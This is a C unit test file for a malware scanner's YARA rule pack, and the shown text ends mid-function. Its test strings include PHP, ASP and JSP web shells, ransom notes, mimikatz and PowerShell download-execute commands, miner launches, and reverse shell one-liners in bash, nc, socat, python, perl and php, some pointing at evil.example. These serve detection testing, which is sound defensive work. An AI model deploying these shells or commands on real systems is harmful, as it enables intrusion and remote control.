/*
 * The rule set (src/hunt/rules.c) and the shipped starter pack (rules/):
 * the pack compiles without warnings, every shipped rule fires on a sample
 * written here and stays quiet on look-alike benign files, compile errors
 * name file and line, ids move when (and only when) what they cover moves,
 * ransomware extensions and note names match, and the YARA names and meta
 * are read.
 *
 * The source tree's rules/ folder is found from __FILE__ (an absolute path
 * in CMake builds): <src>/tests/unit/test_rules.c.
 */
#include "hunt/hunt.h"
#include "test.h"
#include "fixture.h"

static char src_rules[PATH_MAX];

static void find_rules(void)
{
    char p[PATH_MAX];
    pathf(p, "%s", __FILE__);
    for (int i = 0; i < 3; i++) {
        char *s = strrchr(p, '/');
        REQUIRE(s);
        *s = '\0';
    }
    pathf(src_rules, "%s/rules", p[0] ? p : "/");
    struct stat st;
    REQUIRE(stat(src_rules, &st) == 0 && S_ISDIR(st.st_mode));
}

/* ------------------------------------------------------------ helpers */

static int nwarn;
static char warn_text[4096];
static void on_warn(const char *path, const char *msg, void *payload)
{
    (void)payload;
    nwarn++;
    size_t l = strlen(warn_text);
    snprintf(warn_text + l, sizeof(warn_text) - l, "%s: %s\n", path, msg);
}

static int load(hn_ruleset **rs, const char *builtin, const char *const *rules, size_t nrules,
                const char *const *iocs, size_t niocs)
{
    cr_hunt_options o = CR_HUNT_OPTIONS_INIT;
    o.builtin_dir = builtin;
    o.rules = rules;
    o.nrules = nrules;
    o.iocs = iocs;
    o.niocs = niocs;
    o.warning = on_warn;
    nwarn = 0;
    warn_text[0] = '\0';
    cr_error_clear();
    return hn_ruleset_load(rs, &o);
}

typedef struct matches {
    char names[16][128];
    int n;
} matches;

static int scan_cb(YR_SCAN_CONTEXT *ctx, int message, void *data, void *user)
{
    (void)ctx;
    matches *m = user;
    if (message == CALLBACK_MSG_RULE_MATCHING && m->n < 16)
        snprintf(m->names[m->n++], sizeof(m->names[0]), "%s", ((YR_RULE *)data)->identifier);
    return CALLBACK_CONTINUE;
}

static void scan(matches *m, const hn_ruleset *rs, const void *data, size_t len)
{
    memset(m, 0, sizeof(*m));
    REQUIRE(rs->yara);
    REQUIRE(yr_rules_scan_mem(rs->yara, data, len, 0, scan_cb, m, 10) == ERROR_SUCCESS);
}

static int matched(const matches *m, const char *rule)
{
    for (int i = 0; i < m->n; i++)
        if (strcmp(m->names[i], rule) == 0)
            return 1;
    return 0;
}

/* The sample must match `rule` (and nothing else when `only`). */
static void expect(const hn_ruleset *rs, const char *rule, const char *sample, int only)
{
    matches m;
    scan(&m, rs, sample, strlen(sample));
    int ok = matched(&m, rule) && (!only || m.n == 1);
    CHECK(ok);
    if (!ok)
        fprintf(stderr, "  sample for %s matched %d rules (first: %s): %.80s\n", rule, m.n,
                m.n ? m.names[0] : "-", sample);
}

static void expect_none(const hn_ruleset *rs, const void *sample, size_t len)
{
    matches m;
    scan(&m, rs, sample, len);
    CHECK(m.n == 0);
    if (m.n)
        fprintf(stderr, "  benign sample matched %s: %.80s\n", m.names[0], (const char *)sample);
}

/* ------------------------------------------------------------ the pack */

static void test_pack_samples(void)
{
    hn_ruleset *rs = NULL;
    CHECK_OK(load(&rs, src_rules, NULL, 0, NULL, 0));
    REQUIRE(rs);
    CHECK(nwarn == 0); /* no "slowing down scanning" nor meta warnings */
    if (nwarn)
        fprintf(stderr, "%s", warn_text);
    CHECK(rs->yara != NULL);
    CHECK(rs->yara_count >= 15);
    CHECK(rs->nransom_ext >= 50);
    CHECK(rs->nransom_notes >= 40);
    CHECK(hn_ioc_count(rs->iocs) == 0);
    CHECK(strlen(rs->id) == 64 && strlen(rs->yara_id) == 64 && strcmp(rs->id, rs->yara_id) != 0);

    /* Shipped identifiers are unique: names carry no namespace. */
    for (size_t i = 0; i < rs->nrule_info; i++)
        CHECK(strchr(rs->rule_info[i].name, ':') == NULL);

    /* Meta. */
    const hn_rule_info *ri = hn_ruleset_rule_by_name(rs, "EICAR_Test_File");
    CHECK(ri && ri->severity == CR_SEV_CRITICAL && ri->category == CR_CAT_MALWARE);
    CHECK(ri && ri->description && strstr(ri->description, "EICAR"));
    CHECK(ri && hn_ruleset_rule(rs, ri->rule) == ri);
    ri = hn_ruleset_rule_by_name(rs, "Ransom_Note_Text");
    CHECK(ri && ri->severity == CR_SEV_HIGH && ri->category == CR_CAT_RANSOMWARE);
    ri = hn_ruleset_rule_by_name(rs, "PHP_Webshell_Request_Exec");
    CHECK(ri && ri->severity == CR_SEV_CRITICAL && ri->category == CR_CAT_MALWARE);
    CHECK(hn_ruleset_rule_by_name(rs, "No_Such_Rule") == NULL);
    CHECK(hn_ruleset_rule(rs, NULL) == NULL);
    /* every public rule has a description, a known category and a severity >= high */
    for (size_t i = 0; i < rs->nrule_info; i++) {
        const hn_rule_info *r = &rs->rule_info[i];
        if (RULE_IS_PRIVATE(r->rule))
            continue;
        CHECK(r->description != NULL);
        CHECK(r->severity >= CR_SEV_HIGH);
    }

    /* EICAR, built in two halves so that this source is not the test file. */
    char eicar[128];
    snprintf(eicar, sizeof(eicar), "%s%s\r\n", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR",
             "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
    expect(rs, "EICAR_Test_File", eicar, 1);
    char later[200];
    snprintf(later, sizeof(later), "not at the start: %s", eicar);
    expect_none(rs, later, strlen(later));

    /* PHP web shells. */
    expect(rs, "PHP_Webshell_Request_Exec", "<?php @eval($_POST['pass']);?>", 1);
    expect(rs, "PHP_Webshell_Request_Exec",
           "<?php\nif (isset($_GET['c'])) { system( $_GET[\"c\"] ); }\n", 1);
    expect(rs, "PHP_Webshell_Request_Exec", "<?php ASSERT(@$_REQUEST['x']); ?>", 1);
    expect(rs, "PHP_Webshell_Request_Exec", "<?php eval(base64_decode($_COOKIE['k'])); ?>", 0);
    expect(rs, "PHP_Webshell_Request_Exec", "<?php $_GET['f']($_GET['a']); ?>", 1);
    expect(rs, "PHP_Webshell_Request_Exec", "<?=`$_GET[c]`?>", 1);
    expect(rs, "PHP_Webshell_Request_Exec", "<?php echo `$_POST['cmd']`; ?>", 1);
    expect(rs, "PHP_Webshell_Request_Exec", "<?php preg_replace('/.*/e', $_POST['code'], 'x'); ?>",
           1);
    expect(rs, "PHP_Webshell_Encoded_Eval",
           "<?php eval(gzinflate(base64_decode('SyvKz0sFAA=='))); ?>", 1);
    expect(rs, "PHP_Webshell_Encoded_Eval", "<?php eval(\"?>\".base64_decode(\"PD9w\")); ?>", 1);
    expect(rs, "PHP_Webshell_Known_Kit",
           "<?php\n$auth_pass = \"\";\n$default_action = 'FilesMan';\n", 1);
    expect(rs, "PHP_Webshell_Known_Kit", "<html><?php /* c99shell v1.0 */ ?>", 1);

    /* ASP, ASPX, JSP. */
    expect(rs, "ASP_Webshell_Request_Eval",
           "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>", 1);
    expect(rs, "ASP_Webshell_Request_Eval", "<%execute request(\"x\")%>", 1);
    expect(rs, "ASP_Webshell_Request_Eval", "<% ExecuteGlobal(Request.Form(\"c\")) %>", 1);
    expect(rs, "ASPX_Webshell_Cmd_Process",
           "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load() {\n"
           "  var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + "
           "Request.Form[\"c\"]);\n  System.Diagnostics.Process.Start(psi);\n}\n</script>\n",
           1);
    expect(rs, "JSP_Webshell_Runtime_Exec",
           "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec("
           "request.getParameter(\"cmd\")); %>",
           1);
    expect(rs, "JSP_Webshell_Runtime_Exec",
           "<%\nString c = request.getParameter(\"c\");\nProcess p = new ProcessBuilder(\"sh\", "
           "\"-c\", c).start();\n%>",
           1);

    /* Ransom notes. */
    expect(rs, "Ransom_Note_Text",
           "!!! YOUR FILES HAVE BEEN ENCRYPTED !!!\n\nAll your documents, databases and backups "
           "are encrypted.\nTo get them back you need our decryptor.\n1. Download Tor Browser\n"
           "2. Open http://abcdefghijklmnop.onion/victim and enter your personal ID\n"
           "Do not rename encrypted files. Do not try to decrypt your data using third party "
           "software.\n",
           1);
    expect(rs, "Ransom_Note_Text",
           ">>>>> Your data is stolen and encrypted\nIf you don't pay the ransom, the data will "
           "be published on our TOR darknet sites.\n>>>>> You need contact us and decrypt one "
           "file for free on these TOR sites with your personal DECRYPTION ID\nTor Browser "
           "Links: http://lockxxxxxxxx.onion\n",
           1);
    expect(rs, "Ransom_Note_Text",
           "YOUR FILES ARE ENCRYPTED\n\nAll your documents were encrypted.\nTo get them back, "
           "contact us: restore@onionmail.example and pay 4 BTC.\nDo not rename the files, do "
           "not try to decrypt them yourself.\nYour ID: 7F3A-22C9\n",
           1);
    /* UTF-16 (wide) note */
    {
        const char *a = "Your files are encrypted. Buy bitcoin and get the decryption key. "
                        "Do not rename files.";
        uint8_t w[400];
        size_t n = strlen(a);
        for (size_t i = 0; i < n; i++) {
            w[2 * i] = (uint8_t)a[i];
            w[2 * i + 1] = 0;
        }
        matches m;
        scan(&m, rs, w, 2 * n);
        CHECK(matched(&m, "Ransom_Note_Text"));
    }

    /* Attack tools. */
    expect(rs, "Mimikatz_Credential_Theft",
           "mimikatz # privilege::debug\nmimikatz # sekurlsa::logonpasswords\n", 1);
    expect(rs, "Offensive_PowerShell",
           "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1'); "
           "Invoke-Mimikatz -DumpCreds\n",
           1);
    {
        /* Cobalt Strike 4 configuration block (XOR 0x2e): protocol 1, port 443 */
        static const uint8_t plain[] = {0x00, 0x01, 0x00, 0x01, 0x00, 0x02, 0x00, 0x08, 0x00,
                                        0x02, 0x00, 0x01, 0x00, 0x02, 0x01, 0xbb, 0x00, 0x03};
        uint8_t blob[256];
        memset(blob, 0x2e, sizeof(blob));
        for (size_t i = 0; i < sizeof(plain); i++)
            blob[40 + i] = plain[i] ^ 0x2e;
        matches m;
        scan(&m, rs, blob, sizeof(blob));
        CHECK(matched(&m, "CobaltStrike_Beacon") && m.n == 1);
        for (size_t i = 0; i < sizeof(plain); i++)
            blob[40 + i] = plain[i] ^ 0x69;
        scan(&m, rs, blob, sizeof(blob));
        CHECK(matched(&m, "CobaltStrike_Beacon") && m.n == 1);
    }
    expect(rs, "CobaltStrike_Beacon", "....beacon.x64.dll....%s as %s\\%s: %d....", 1);
    expect(rs, "Metasploit_Meterpreter", "\x01metsrv.x64.dll\nReflectiveLoader\n", 1);
    expect(rs, "Rubeus_Kerberos_Abuse", "Rubeus\n[*] Action: Ask TGT\n", 1);
    expect(rs, "SharpHound_BloodHound_Collector", "Invoke-BloodHound -CollectionMethod All", 1);
    expect(rs, "SharpHound_BloodHound_Collector",
           "SharpHound.exe\nBloodHound output\n--CollectionMethod DCOnly\n", 1);
    expect(rs, "Impacket_Remote_Exec_Or_Dump",
           "from impacket.smbconnection import SMBConnection\n"
           "self.__shell = '%COMSPEC% /Q /c echo '\n",
           1);
    expect(rs, "Reverse_Shell_Command", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", 1);
    expect(rs, "Reverse_Shell_Command",
           "* * * * * root /bin/bash -c 'sh -i >& /dev/udp/evil.example/53 0>&1'\n", 1);
    expect(rs, "Reverse_Shell_Command", "nc -e /bin/sh 10.0.0.1 4444\n", 1);
    expect(rs, "Reverse_Shell_Command", "nc.traditional 10.0.0.1 4444 -e /bin/bash\n", 1);
    expect(rs, "Reverse_Shell_Command", "ncat 10.0.0.1 4444 --sh-exec /bin/sh\n", 1);
    expect(rs, "Reverse_Shell_Command", "nc -lvnp 4444 -c /bin/sh\n", 1);
    expect(rs, "Reverse_Shell_Command",
           "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n", 1);
    expect(rs, "Reverse_Shell_Command",
           "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444\n", 1);
    expect(rs, "Reverse_Shell_Command", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh\n", 1);
    expect(rs, "Reverse_Shell_Command",
           "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
           "socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0); "
           "os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/sh\")'\n",
           1);
    expect(rs, "Reverse_Shell_Command",
           "perl -e 'use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
           "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,"
           "\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'\n",
           1);
    expect(rs, "Reverse_Shell_Command",
           "php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'\n", 1);
    expect(rs, "Cryptocurrency_Miner",
           "{\"donate-level\": 1, \"pools\": [{\"url\": \"stratum+tcp://pool.example:3333\"}]}", 1);
    expect(rs, "Cryptocurrency_Miner", "XMRig 6.19.0\n --donate-level=N\n", 1);
    expect(rs, "Cryptocurrency_Miner",
           "#!/bin/sh\ncd /tmp && ./xmrig -o stratum+tcp://pool.example.net:3333 -u 4Abc -k &\n",
           1);
    expect(rs, "Cryptocurrency_Miner",
           "nohup ./cpuminer -a cryptonight --url=pool.example:4444 &\n", 1);

    /* Benign look-alikes stay quiet. */
    static const char *const benign[] = {
        "<?php $id = (int)$_GET['id']; echo htmlspecialchars($_POST['name']);\n"
        "exec('ls -l', $out); $cfg = base64_decode($row['cfg']); eval('return 1;'); ?>",
        "<?php $q = \"SELECT * FROM `$_GET[table]`\"; include $_GET['page'] . '.php'; ?>",
        "<% Response.Write(Request.QueryString(\"name\")) %>",
        "<% String name = request.getParameter(\"name\"); out.println(name); %>",
        "Ransomware encrypts files and asks for a ransom in bitcoin. Keep offline backups so "
        "you never need a decryptor.",
        "Security awareness: if a message says your files are encrypted, call the helpdesk.",
        "#!/bin/sh\n# is the port open?\nif echo > /dev/tcp/127.0.0.1/22; then echo open; fi\n",
        "nc -z -w 2 10.0.0.1 22 && echo reachable\n",
        "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80\n",
        "Mimikatz is a tool that steals credentials; see also gentilkiwi's blog.",
        "rule Demo { strings: $a = \"eval($_POST[\" $b = \"sekurlsa::logonpasswords\" "
        "$c = \"lsadump::sam\" condition: any of them }",
        "The mining pool uses stratum+tcp:// to talk to miners.",
        /* detection rules of other tools quote what they detect */
        "title: Mimikatz Use\nlogsource:\n  product: windows\ndetection:\n  keywords:\n"
        "    - 'sekurlsa::logonpasswords'\n    - 'lsadump::sam'\n    - 'Invoke-Mimikatz'\n",
        "alert http any any -> any any (msg:\"web shell\"; content:\"eval($_POST[\"; "
        "sid:1000001; rev:1;)\n",
        "<group name=\"attack,\">\n<rule id=\"100100\" level=\"12\">\n"
        "<match>Invoke-Mimikatz|bash -i >& /dev/tcp/1.2.3.4/4444 0>&1</match>\n</rule></group>\n",
    };
    for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++)
        expect_none(rs, benign[i], strlen(benign[i]));
    /* a detector's own string table (like cleanroom's persistence judge) */
    static const char table[] = "it starts a miner\0stratum+tcp://\0xmrig\0/dev/tcp/\0socat\0"
                                "exec:\0nc -e\0bash -i\0";
    expect_none(rs, table, sizeof(table) - 1);
    /* The pack's own sources match nothing (they quote what they look for). */
    static const char *const packs[] = {"eicar.yar", "webshells.yar", "ransom_notes.yar",
                                        "offensive_tools.yar"};
    for (size_t i = 0; i < 4; i++) {
        char p[PATH_MAX];
        cr_buf b = CR_BUF_INIT;
        pathf(p, "%s/yara/%s", src_rules, packs[i]);
        REQUIRE(cr_fs_read_all(&b, AT_FDCWD, p, 1 << 20) == 0);
        expect_none(rs, b.ptr, b.len);
        cr_buf_free(&b);
    }
    hn_ruleset_free(rs);
}

static void test_ransom_names(void)
{
    hn_ruleset *rs = NULL;
    CHECK_OK(load(&rs, src_rules, NULL, 0, NULL, 0));
    REQUIRE(rs);
    const char *e;
    CHECK((e = hn_ruleset_ransom_ext(rs, "report.pdf.lockbit")) && strcmp(e, "lockbit") == 0);
    CHECK((e = hn_ruleset_ransom_ext(rs, "REPORT.PDF.LockBit")) && strcmp(e, "lockbit") == 0);
    CHECK((e = hn_ruleset_ransom_ext(rs, "/srv/share/budget.xlsx.akira")) &&
          strcmp(e, "akira") == 0);
    CHECK((e = hn_ruleset_ransom_ext(rs, "photo.jpg.WNCRY")) && strcmp(e, "wncry") == 0);
    CHECK(hn_ruleset_ransom_ext(rs, "lockbit") == NULL); /* no extension */
    CHECK(hn_ruleset_ransom_ext(rs, ".akira") == NULL);  /* a hidden file's name */
    CHECK(hn_ruleset_ransom_ext(rs, "report.lockbit.pdf") == NULL);
    CHECK(hn_ruleset_ransom_ext(rs, "report.pdf.") == NULL);
    CHECK(hn_ruleset_ransom_ext(rs, "") == NULL);
    /* ordinary extensions a server holds are not listed */
    static const char *const ordinary[] = {
        "a.enc",     "a.lock", "a.locked", "a.encrypted", "a.crypt",  "a.bak",      "a.tmp",
        "a.dat",     "a.old",  "a.key",    "a.inc",       "a.djvu",   "a.hive",     "a.sage",
        "a.gpg",     "a.asc",  "a.pgp",    "a.7z",        "a.zip",    "a.gz",       "a.xz",
        "a.zst",     "a.log",  "a.pid",    "a.swp",       "a.part",   "a.dpkg-old", "a.dpkg-dist",
        "a.ucf-old", "a.orig", "a.rej",    "a.db",        "a.sqlite", "a.kdbx",     "a.pem",
        "a.crt",     "a.vhdx", "a.vmdk",   "a.pst",       "a.ost",    "a.dcm",      "a.ini"};
    for (size_t i = 0; i < sizeof(ordinary) / sizeof(ordinary[0]); i++) {
        CHECK(hn_ruleset_ransom_ext(rs, ordinary[i]) == NULL);
        if (hn_ruleset_ransom_ext(rs, ordinary[i]))
            fprintf(stderr, "  %s is listed\n", ordinary[i]);
    }
    /* a long name does not overflow anything */
    char longname[2000];
    memset(longname, 'x', sizeof(longname));
    memcpy(longname + sizeof(longname) - 9, ".lockbit", 9);
    CHECK((e = hn_ruleset_ransom_ext(rs, longname)) && strcmp(e, "lockbit") == 0);
    CHECK(hn_ruleset_ransom_note(rs, longname) == 0);

    CHECK(hn_ruleset_ransom_note(rs, "RESTORE-MY-FILES.TXT") == 1);
    CHECK(hn_ruleset_ransom_note(rs, "/home/a/Documents/restore-my-files.txt") == 1);
    CHECK(hn_ruleset_ransom_note(rs, "RECOVER-7ab3c1d-FILES.txt") == 1);
    CHECK(hn_ruleset_ransom_note(rs, "# DECRYPT MY FILES #.html") == 1);
    CHECK(hn_ruleset_ransom_note(rs, "!$R4GN4R_0123abcd$!.txt") == 1);
    CHECK(hn_ruleset_ransom_note(rs, "@Please_Read_Me@.txt") == 1);
    CHECK(hn_ruleset_ransom_note(rs, "README-RECOVER-xyz.txt") == 1);
    CHECK(hn_ruleset_ransom_note(rs, "readme.txt") == 0);
    CHECK(hn_ruleset_ransom_note(rs, "README") == 0);
    CHECK(hn_ruleset_ransom_note(rs, "_readme.txt") == 0);
    CHECK(hn_ruleset_ransom_note(rs, "info.txt") == 0);
    CHECK(hn_ruleset_ransom_note(rs, "recover-files.txt.bak") == 0);
    CHECK(hn_ruleset_ransom_note(rs, "") == 0);
    hn_ruleset_free(rs);
}

/* ------------------------------------------------------------ errors, ids */

static void test_errors(const char *base)
{
    hn_ruleset *rs = NULL;
    char dir[PATH_MAX], p[PATH_MAX];

    /* A syntax error: file and line. */
    join(dir, base, "broken");
    REQUIRE(mkdir(dir, 0755) == 0);
    const char *good = "rule Good_One { strings: $a = \"good marker text\" condition: $a }\n";
    const char *bad = "rule Fine { condition: true }\n\nrule Broken {\n    strings $a = \"x\"\n"
                      "    condition: $a\n}\n";
    write_at(dir, "a_good.yar", good, strlen(good));
    write_at(dir, "b_broken.yar", bad, strlen(bad));
    const char *r1[] = {dir};
    CHECK(load(&rs, NULL, r1, 1, NULL, 0) == CR_EINPUT);
    CHECK(rs == NULL);
    CHECK(strstr(cr_error_last(), "b_broken.yar line 4") != NULL);
    if (!strstr(cr_error_last(), "b_broken.yar line 4"))
        fprintf(stderr, "  message: %s\n", cr_error_last());

    /* An undefined identifier on line 2 of a file given directly. */
    join(p, base, "undef.yar");
    const char *undef = "rule U {\n condition: no_such_thing\n}\n";
    write_at(base, "undef.yar", undef, strlen(undef));
    const char *r2[] = {p};
    CHECK(load(&rs, NULL, r2, 1, NULL, 0) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "undef.yar line 2") && strstr(cr_error_last(), "no_such_thing"));

    /* include is refused with a hint */
    const char *inc = "include \"other.yar\"\nrule I { condition: true }\n";
    write_at(base, "inc.yar", inc, strlen(inc));
    join(p, base, "inc.yar");
    const char *r3[] = {p};
    CHECK(load(&rs, NULL, r3, 1, NULL, 0) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "inc.yar line 1") && strstr(cr_error_last(), "include"));

    /* A binary (compiled) rule file. */
    write_at(base, "compiled.yar", "YARA\0\0\1\2", 8);
    join(p, base, "compiled.yar");
    const char *r4[] = {p};
    CHECK(load(&rs, NULL, r4, 1, NULL, 0) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "compiled.yar") != NULL);

    /* Missing paths. */
    const char *r5[] = {"/nonexistent/rules.yar"};
    CHECK(load(&rs, NULL, r5, 1, NULL, 0) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "/nonexistent/rules.yar") != NULL);
    const char *i1[] = {"/nonexistent/iocs.txt"};
    CHECK(load(&rs, NULL, NULL, 0, i1, 1) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "/nonexistent/iocs.txt") != NULL);
    CHECK(load(&rs, "/nonexistent/rules", NULL, 0, NULL, 0) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "/nonexistent/rules") != NULL);

    /* A shipped folder without one of its data files. */
    char inst[PATH_MAX], cmd[4 * PATH_MAX];
    join(inst, base, "incomplete");
    snprintf(cmd, sizeof(cmd), "cp -r '%s' '%s' && rm '%s/ransom-notes.txt'", src_rules, inst,
             inst);
    REQUIRE(system(cmd) == 0);
    CHECK(load(&rs, inst, NULL, 0, NULL, 0) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "ransom-notes.txt") != NULL);
    /* a bad entry in a data file names file and line */
    const char *exts = "# test\nlockbit\nbad.ext\n";
    write_at(inst, "ransom-notes.txt", "x.txt\n", 6);
    write_at(inst, "ransomware-extensions.txt", exts, strlen(exts));
    CHECK(load(&rs, inst, NULL, 0, NULL, 0) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "ransomware-extensions.txt line 3") != NULL);
    /* without yara/ */
    snprintf(cmd, sizeof(cmd), "rm -r '%s/yara'", inst);
    REQUIRE(system(cmd) == 0);
    write_at(inst, "ransomware-extensions.txt", "lockbit\n", 8);
    CHECK(load(&rs, inst, NULL, 0, NULL, 0) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "yara") != NULL);

    /* Meta with unknown values: warned, defaults used. */
    const char *meta = "rule Odd_Meta {\n meta:\n  severity = \"urgent\"\n  category = \"virus\"\n"
                       "  description = \"odd \\x01 text\"\n condition: true\n}\n"
                       "rule Low_One { meta: severity = \"LOW\" category = \"Anomaly\" "
                       "condition: true }\n";
    write_at(base, "meta.yar", meta, strlen(meta));
    join(p, base, "meta.yar");
    const char *r6[] = {p};
    CHECK_OK(load(&rs, NULL, r6, 1, NULL, 0));
    CHECK(nwarn == 2);
    CHECK(strstr(warn_text, "urgent") && strstr(warn_text, "virus"));
    const hn_rule_info *ri = hn_ruleset_rule_by_name(rs, "Odd_Meta");
    CHECK(ri && ri->severity == CR_SEV_HIGH && ri->category == CR_CAT_MALWARE);
    CHECK(ri && ri->description && strcmp(ri->description, "odd text") == 0);
    ri = hn_ruleset_rule_by_name(rs, "Low_One");
    CHECK(ri && ri->severity == CR_SEV_LOW && ri->category == CR_CAT_ANOMALY && !ri->description);
    CHECK(rs && rs->yara_count == 2);
    hn_ruleset_free(rs);
    rs = NULL;

    /* A compiler warning reaches the warning callback with file and line. */
    const char *slow = "rule Slow_One {\n strings:\n  $a = { 00 ?? }\n condition: $a\n}\n";
    write_at(base, "slow.yar", slow, strlen(slow));
    join(p, base, "slow.yar");
    const char *r7[] = {p};
    CHECK_OK(load(&rs, NULL, r7, 1, NULL, 0));
    CHECK(nwarn >= 1 && strstr(warn_text, "slow.yar: line 3") != NULL);
    hn_ruleset_free(rs);
}

static void test_duplicates(const char *base)
{
    /* The same identifier in two files: both compile, the later one in its own namespace. */
    char dir[PATH_MAX], sub[PATH_MAX];
    hn_ruleset *rs = NULL;
    join(dir, base, "dups");
    join(sub, dir, "more");
    REQUIRE(mkdir(dir, 0755) == 0 && mkdir(sub, 0755) == 0);
    const char *a = "rule Dup { strings: $a = \"first pack marker\" condition: $a }\n"
                    "rule Only_A { condition: false }\n";
    const char *b = "rule Dup { strings: $b = \"second pack marker\" condition: $b }\n";
    write_at(dir, "a.yar", a, strlen(a));
    write_at(sub, "b.yara", b, strlen(b));
    write_at(dir, "notes.txt", "not a rule file", 15);
    write_at(dir, ".hidden.yar", "this is not yara", 16);
    const char *r[] = {dir};
    CHECK_OK(load(&rs, NULL, r, 1, NULL, 0));
    REQUIRE(rs);
    CHECK(rs->yara_count == 3);
    CHECK(hn_ruleset_rule_by_name(rs, "Dup") != NULL);
    CHECK(hn_ruleset_rule_by_name(rs, "Only_A") != NULL);
    const hn_rule_info *ri = hn_ruleset_rule_by_name(rs, "more/b:Dup");
    CHECK(ri != NULL);
    matches m;
    scan(&m, rs, "the second pack marker", 22);
    CHECK(m.n == 1 && ri && hn_ruleset_rule(rs, ri->rule) == ri);
    hn_ruleset_free(rs);
}

static void copy_tree(const char *from, const char *to)
{
    char cmd[4 * PATH_MAX];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s' && cp -r '%s' '%s'", to, from, to);
    REQUIRE(system(cmd) == 0);
}

static void append(const char *path, const char *text)
{
    FILE *f = fopen(path, "a");
    REQUIRE(f);
    fputs(text, f);
    fclose(f);
}

static void test_ids(const char *base)
{
    hn_ruleset *a = NULL, *b = NULL;
    char c1[PATH_MAX], c2[PATH_MAX], p[PATH_MAX], iocs[PATH_MAX];
    char id0[65], yid0[65];

    /* Same rules: same ids, wherever the folder is. */
    CHECK_OK(load(&a, src_rules, NULL, 0, NULL, 0));
    join(c1, base, "copy1");
    copy_tree(src_rules, c1);
    CHECK_OK(load(&b, c1, NULL, 0, NULL, 0));
    REQUIRE(a && b);
    CHECK(strcmp(a->id, b->id) == 0 && strcmp(a->yara_id, b->yara_id) == 0);
    snprintf(id0, sizeof(id0), "%s", a->id);
    snprintf(yid0, sizeof(yid0), "%s", a->yara_id);
    hn_ruleset_free(a);
    hn_ruleset_free(b);
    a = b = NULL;

    /* A changed rule changes both ids. */
    join(c2, base, "copy2");
    copy_tree(src_rules, c2);
    pathf(p, "%s/yara/eicar.yar", c2);
    append(p, "\nrule Extra_Rule { condition: false }\n");
    CHECK_OK(load(&a, c2, NULL, 0, NULL, 0));
    REQUIRE(a);
    CHECK(strcmp(a->id, id0) != 0 && strcmp(a->yara_id, yid0) != 0);
    hn_ruleset_free(a);
    a = NULL;

    /* A changed data file changes the id, not the YARA id. */
    copy_tree(src_rules, c2);
    pathf(p, "%s/ransomware-extensions.txt", c2);
    append(p, "zzznewfamily\n");
    CHECK_OK(load(&a, c2, NULL, 0, NULL, 0));
    REQUIRE(a);
    CHECK(strcmp(a->id, id0) != 0 && strcmp(a->yara_id, yid0) == 0);
    CHECK(hn_ruleset_ransom_ext(a, "x.zzznewfamily") != NULL);
    hn_ruleset_free(a);
    a = NULL;

    /* An IOC list changes the id, not the YARA id; the same list gives the same id. */
    join(iocs, base, "bad-hashes.txt");
    const char *list = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 empty\n";
    write_at(base, "bad-hashes.txt", list, strlen(list));
    const char *i1[] = {iocs};
    CHECK_OK(load(&a, src_rules, NULL, 0, i1, 1));
    CHECK_OK(load(&b, c1, NULL, 0, i1, 1));
    REQUIRE(a && b);
    CHECK(strcmp(a->id, id0) != 0 && strcmp(a->yara_id, yid0) == 0);
    CHECK(strcmp(a->id, b->id) == 0);
    CHECK(hn_ioc_count(a->iocs) == 1);
    hn_ruleset_free(a);
    hn_ruleset_free(b);
    a = b = NULL;

    /* A user rule file: a new YARA id; its location does not matter, its name does. */
    const char *user = "rule User_Rule { strings: $a = \"user marker\" condition: $a }\n";
    char d1[PATH_MAX], d2[PATH_MAX];
    join(d1, base, "u1");
    join(d2, base, "u2");
    REQUIRE(mkdir(d1, 0755) == 0 && mkdir(d2, 0755) == 0);
    write_at(d1, "mine.yar", user, strlen(user));
    write_at(d2, "mine.yar", user, strlen(user));
    pathf(p, "%s/mine.yar", d1);
    const char *u1[] = {p};
    const char *u2[] = {d2};
    CHECK_OK(load(&a, src_rules, u1, 1, NULL, 0));
    CHECK_OK(load(&b, src_rules, u2, 1, NULL, 0));
    REQUIRE(a && b);
    CHECK(strcmp(a->yara_id, yid0) != 0);
    CHECK(strcmp(a->yara_id, b->yara_id) == 0 && strcmp(a->id, b->id) == 0);
    CHECK(a->yara_count == b->yara_count);
    hn_ruleset_free(a);
    hn_ruleset_free(b);

    /* No rules at all: no YARA, still ids, deterministic. */
    CHECK_OK(load(&a, NULL, NULL, 0, NULL, 0));
    CHECK_OK(load(&b, NULL, NULL, 0, NULL, 0));
    REQUIRE(a && b);
